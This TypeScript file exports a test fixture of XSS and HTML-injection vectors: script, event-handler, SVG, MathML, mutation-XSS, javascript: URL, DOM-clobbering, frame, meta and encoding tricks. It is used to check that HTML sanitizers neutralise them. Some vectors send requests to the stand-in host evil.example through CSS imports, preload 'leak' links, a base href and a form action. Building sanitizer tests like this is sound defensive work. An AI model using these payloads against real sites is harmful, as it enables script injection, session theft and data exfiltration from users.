/**
 * Vectors by family, after OWASP's XSS Filter Evasion, PortSwigger's XSS cheat sheets and the advisories of DOMPurify
 * and sanitize-html: one of each kind. Each calls `xss()` if it works. Parsers may repair them in different ways; none
 * may leave anything active.
 */
export const HOSTILE_VECTORS: Readonly<Record<string, readonly string[]>> = {
  script: [
    '<script>xss()</script>',
    '<script src="/assets/nothing.js" onerror="xss()"></script>',
    '<scr<script>ipt>xss()</scr</script>ipt>',
    '<script>xss()<!--',
    '<script type="importmap">{"imports":{"react":"data:text/javascript,xss()"}}</script>',
  ],
  events: [
    '<img/src=x/onerror=xss()>',
    '<p oNmOuSeOvEr=xss()>а</p>',
    '<p onbeforetoggle=xss() popover id=pop>а</p><button popovertarget=pop>б</button>',
  ],
  svg: [
    '<svg><script xlink:href="data:text/javascript,xss()"></script></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()></svg>#x"/></svg>',
    '<svg><title><style><img src=x onerror=xss()></style></title></svg>',
    '<svg><style>@import "//evil.example/x.css";</style></svg>',
  ],
  animate: [
    '<svg><animate xlink:href=#m attributeName=href values="javascript:xss()"/><a id=m><text y=9>а</text></a></svg>',
    '<svg><animate attributeName=onload to=xss() onend=xss() dur=1ms></animate></svg>',
  ],
  mathml: [
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:xss()">а</maction></math>',
  ],
  mutation: [
    '<svg></p><style><a id="</style><img src=x onerror=xss()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>',
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    '<select><style></select><img src=x onerror=xss()></style>',
    '<plaintext><img src=x onerror=xss()>',
    '<xmp><p title="</xmp><img src=x onerror=xss()>">',
    '<table><caption><svg><title><table><caption></svg><style><a title="</style><img src onerror=xss()>">',
    '<a><table><a></table><p id=1></p></a><style><img src=x onerror=xss()>',
    `${'<div>'.repeat(600)}<svg><style><img src=x onerror=xss()></style>${'</div>'.repeat(600)}`,
    '<textarea></textarea><svg/onload=xss()>',
    '<table><td><script>xss()</script><table><p onclick=xss()>а',
    '<?xml version="1.0"?><script>xss()</script><!DOCTYPE x><html><body onload=xss()>а',
    '<!--><img src=x onerror=xss()>-->',
    '<svg><![CDATA[</svg><img src=x onerror=xss()>]]>',
  ],
  addresses: [
    '<a href="javascript:xss()">а</a>',
    '<a href="java\nscript:xss()">а</a>',
    '<a href="&#x0000006A;avascript:xss()">а</a>',
    '<a href="\u0001javascript:xss()">а</a>',
    '<a href="javascript:/*--></title></style></textarea></script><svg/onload=xss()>*/xss()">а</a>',
    '<a href="data:text/html,<script>xss()</script>">а</a>',
    '<a href="//evil.example">а</a>',
    '<a href="/\\evil.example">а</a>',
    '<img src="data:image/svg+xml,<svg onload=xss()>">',
    '<img srcset="x 1x, javascript:xss() 2x">',
    '<blockquote cite="javascript:xss()">а</blockquote>',
  ],
  styles: [
    '<style>body{display:none!important}</style>',
    '<p style="position:fixed;inset:0;z-index:9999;background:red">а</p>',
    '<link rel=preload as=image href="//evil.example/leak">',
    '<style media="</style><img src=x onerror=xss()>"></style>',
    '<div class="modal header menu">а</div>',
  ],
  clobbering: [
    '<p id=root>а</p>',
    '<p id=release-set>{"remotes":{}}</p>',
    '<form id=trustedTypes><input name=createPolicy></form>',
    '<form><input name=attributes><input name=nodeName><p onclick=xss()>а</p></form>',
    '<p __proto__=x constructor=y>а</p>',
    '<div data-island="forms/ContactForm">а</div>',
    '<p slot=x is=x-y part=z>а</p>',
  ],
  frames: [
    '<iframe srcdoc="&lt;img src=x onerror=parent.xss()&gt;"></iframe>',
    '<frameset onload=xss()><frame src="javascript:xss()"></frameset>',
    '<object data="data:text/html,<script>parent.xss()</script>"></object>',
  ],
  documents: [
    '<meta http-equiv=refresh content="0;url=javascript:xss()">',
    '<meta http-equiv=set-cookie content="a=b">',
    '<base href="//evil.example/">',
    '<html onclick=xss()><head><title>зламано</title></head><body bgcolor=red>',
  ],
  forms: [
    '<form action="javascript:xss()"><button>а</button></form>',
    '<button form=contact-form formaction="//evil.example">а</button>',
  ],
  templates: [
    '<template shadowrootmode=open><img src=x onerror=xss()></template>',
    '<x-element onfocus=xss() autofocus tabindex=0>а</x-element>',
    '<p>{{constructor.constructor("xss()")()}}</p>',
    '<p v-html="xss()" ng-init="xss()" x-init="xss()" @click="xss()" :onclick="xss()">а</p>',
  ],
  encodings: [
    '&lt;script&gt;xss()&lt;/script&gt;',
    '<scr\u0000ipt>xss()</scr\u0000ipt>',
    '<ſcript>xss()</ſcript>',
    '<p title="\u2028</p><script>xss()</script>">а</p>',
    '<p title=`"><img src=x onerror=xss()>`>а</p>',
    '<a href="/\uFF0Fevil.example" onclick=xss()>а</a>',
  ],
};
